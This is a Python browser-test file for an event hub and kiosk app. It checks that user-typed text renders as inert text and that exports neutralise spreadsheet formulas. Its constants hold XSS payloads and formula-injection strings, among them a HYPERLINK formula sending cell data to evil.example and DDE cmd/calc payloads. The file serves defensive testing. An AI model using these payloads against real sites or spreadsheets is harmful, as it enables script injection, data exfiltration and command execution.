"""Promise 6 in a real browser: what anyone types comes out as text, never as code.

Every free-text field gets a script or formula payload: the organiser's participant fields and
event settings, the broker's deal texts, a walk-in's name, a void reason. Headless Chromium then
opens every page that shows them, kiosk and hub, the live screen included, and no dialog fires.
Because the Content-Security-Policy would block an injected inline script even if escaping
failed, each page is also checked for what escaping alone must prevent: no script element, no
element with an event-handler attribute. The exports keep formulas as inert text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import requests

from hub.service import Hub
from tests.support.auth import login_page, login_session
from tests.support.processes import Programs, wait_until

# One Chromium for the whole run: ``browser`` comes from tests/browser/conftest.py (two
# Playwright instances in one process cannot run side by side).
pytestmark = pytest.mark.slow

SCRIPT = '<script>alert("xss-script")</script>'
IMG = '"><img src=x onerror=alert("xss-img")>'
SVG = "<svg/onload=alert('xss-svg')>"
ATTR = "' onmouseover='alert(1)' x='"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_evening(hub_dir: Path) -> None:
    hub = Hub(hub_dir)
    try:
        hub.schedule_evening(
            {
                "name": f"Børs {SCRIPT}"[:120],
                "venue": IMG,
                "date": "2026-11-25",
                "opens_at": "00:01",
                "closes_at": "23:59",
                "target": 40,
            }
        )
        for name, person, need, offer, sector in [
            (SCRIPT, IMG, SVG, FORMULA, "voluntary"),
            (IMG, SCRIPT, ATTR, PLUS, "public"),
            (FORMULA, AT, SCRIPT, IMG, "business"),
        ]:
            hub.register_participant(
                {
                    "name": name,
                    "sector": sector,
                    "contact_person": person[:80],
                    "email": "x@example.org",
                    "needs": [{"category": "premises", "text": need}],
                    "offers": [{"category": "equipment", "text": offer}],
                    "consent_public": True,
                }
            )
    finally:
        hub.close()


@pytest.fixture(scope="module")
def evening(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    programs = Programs(base)
    try:
        hostile_evening(base / "hub")
        hub = programs.hub(base / "hub")
        kiosk = programs.kiosk(base / "kiosk", hub.url)

        def find(query: str) -> str:
            found = wait_until(
                lambda: requests.get(
                    f"{kiosk.url}/api/participants", params={"q": query}, timeout=3
                ).json()["participants"]
            )
            return found[0]["id"]

        ids = [find("xss-script"), find("xss-img"), find("HYPERLINK")]
        deals = [
            {
                "parties": [
                    {"participant_id": ids[0], "gives": SCRIPT},
                    {"participant_id": ids[1], "gives": FORMULA},
                    {"walk_in": {"name": SVG, "sector": "business"}, "gives": IMG},
                ],
                "category": "premises",
                "kind": "mutual",
                "deadline": "2027-03-01",
                "broker": IMG[:60],
            },
            {
                "parties": [
                    {"participant_id": ids[2], "gives": PLUS},
                    {"participant_id": ids[0], "gives": ATTR},
                ],
                "category": "equipment",
                "kind": "gift",
                "deadline": "2027-03-01",
                "broker": AT[:60],
            },
        ]
        saved = []
        for deal in deals:
            answer = requests.post(f"{kiosk.url}/api/deals", json=deal, timeout=5)
            assert answer.status_code == 201, answer.text
            saved.append(answer.json()["id"])
        voided = requests.post(
            f"{kiosk.url}/api/deals/{saved[1]}/void", json={"reason": SCRIPT}, timeout=5
        )
        assert voided.status_code in (200, 201), voided.text
        wait_until(lambda: requests.get(f"{hub.url}/api/stats", timeout=3).json()["deals"] >= 1)
        wait_until(
            lambda: requests.get(f"{kiosk.url}/api/status", timeout=3).json()["pending"] == 0
        )
        yield {"hub": hub, "kiosk": kiosk, "deals": saved}
    finally:
        programs.stop_all()


def inert(page, url: str, dialogs: list[str], settle_ms: int = 600) -> str:
    """Open ``url``, let its scripts run, and check nothing the users typed became markup."""
    page.goto(url)
    page.wait_for_timeout(settle_ms)
    injected = page.evaluate(
        """() => {
            const found = [];
            for (const el of document.querySelectorAll('*')) {
                for (const attr of el.attributes) {
                    if (attr.name.startsWith('on')) found.push(el.tagName + '[' + attr.name + ']');
                }
            }
            for (const s of document.querySelectorAll('script')) {
                if (!s.src) found.push('inline script: ' + s.textContent.slice(0, 40));
            }
            for (const el of document.querySelectorAll('img[src="x"], svg[onload]')) {
                found.push('injected ' + el.tagName);
            }
            return found;
        }"""
    )
    assert injected == [], (url, injected)
    assert dialogs == [], (url, dialogs)
    return page.inner_text("body")


def test_script_payloads_stay_text_on_every_page(browser, evening):
    hub, kiosk = evening["hub"], evening["kiosk"]
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    dialogs: list[str] = []
    context.on("page", lambda p: p.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss())))
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        text = inert(page, f"{kiosk.url}/", dialogs)
        assert SCRIPT in text or IMG in text  # shown, as text
        inert(page, f"{kiosk.url}/deals/{evening['deals'][0]}/edit", dialogs)
        inert(page, f"{kiosk.url}/participants/search?q=script&slot=0", dialogs)
        # The broker types a payload into the participant picker too.
        page.goto(f"{kiosk.url}/")
        picker = page.locator("input[type=search]").first
        if picker.count():
            picker.fill(SCRIPT)
            page.wait_for_timeout(700)
        assert dialogs == []

        # The public: the live screen (JSON rendered by screen.js) and the count page.
        inert(page, f"{hub.url}/screen", dialogs, settle_ms=2500)
        inert(page, f"{hub.url}/count", dialogs, settle_ms=1500)

        # The organiser: every page with names, deal texts and settings.
        login_page(page, hub.url)
        for path in ["/", "/participants", "/settings", "/devices", "/conflicts", "/mc"]:
            inert(page, f"{hub.url}{path}", dialogs, settle_ms=1000)
        page.goto(f"{hub.url}/participants")
        shown = page.inner_text("body")
        assert SCRIPT in shown and IMG in shown  # visibly there, as text
    finally:
        context.close()
    assert dialogs == []


def test_formula_payloads_stay_text_in_the_exports(evening):
    hub = evening["hub"]
    with login_session(hub.url) as organiser:
        _check_exports(organiser, hub.url)


def _check_exports(organiser, hub_url: str) -> None:
    csv_answer = organiser.get(f"{hub_url}/export.csv", timeout=10)
    assert csv_answer.status_code == 200
    text = csv_answer.content.decode("utf-8-sig")
    cells = [
        cell
        for row in csv.reader(io.StringIO(text), delimiter=(text[:200].count(";") and ";") or ",")
        for cell in row
    ]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert any(FORMULA in c for c in cells) and any(PLUS in c for c in cells)

    xlsx_answer = organiser.get(f"{hub_url}/export.xlsx", timeout=10)
    assert xlsx_answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(xlsx_answer.content))
    try:
        values = [c for row in book.active.iter_rows() for c in row if c.value is not None]
        assert values and all(c.data_type != "f" for c in values)
        assert any(FORMULA in str(c.value) for c in values)
    finally:
        book.close()


def test_a_broker_pairs_a_tablet_by_hand_and_it_locks_when_left_alone(
    browser, programs, seeded_hub_dir, tmp_path
):
    hub = programs.hub(seeded_hub_dir)
    kiosk = programs.kiosk(tmp_path / "kiosk", hub.url, paired=False, extra=["--lock-after", "2"])
    # One browser for both, as in the demo: the hub's and the kiosk's sessions must not clash.
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    tablet, laptop = context.new_page(), context.new_page()
    try:
        tablet.goto(f"{kiosk.url}/")
        tablet.get_by_test_id("unpaired").wait_for()
        tablet.get_by_test_id("unpaired").click()
        tablet.wait_for_url("**/pair")

        login_page(laptop, hub.url)
        laptop.goto(f"{hub.url}/pair")
        code = laptop.get_by_test_id("pair-code").inner_text()

        tablet.fill("input[name=hub]", hub.url)
        tablet.fill("input[name=code]", code)
        tablet.fill("input[name=name]", "Nettbrett 3")
        tablet.fill("input[name=pin]", "2468")
        tablet.click("button[type=submit]")
        tablet.get_by_test_id("paired-with").wait_for()
        wait_until(
            lambda: requests.get(f"{kiosk.url}/api/status", timeout=3).json()["state"] == "online"
        )

        # Left alone for the idle time, the tablet shows its PIN screen by itself.
        tablet.goto(f"{kiosk.url}/")
        tablet.wait_for_url("**/lock", timeout=8000)
        tablet.fill("input[name=pin]", "1357")
        tablet.click("button[type=submit]")
        assert "/lock" in tablet.url
        tablet.fill("input[name=pin]", "2468")
        tablet.click("button[type=submit]")
        tablet.wait_for_url(f"{kiosk.url}/")
        # Nothing on the page navigates by itself but the idle timer (lock.js).
        tablet.wait_for_url("**/lock", timeout=8000)

        laptop.goto(f"{hub.url}/devices")
        assert "/login" not in laptop.url  # still logged in after the kiosk's pages
        assert laptop.locator("input[value='Nettbrett 3']").count() == 1
    finally:
        context.close()
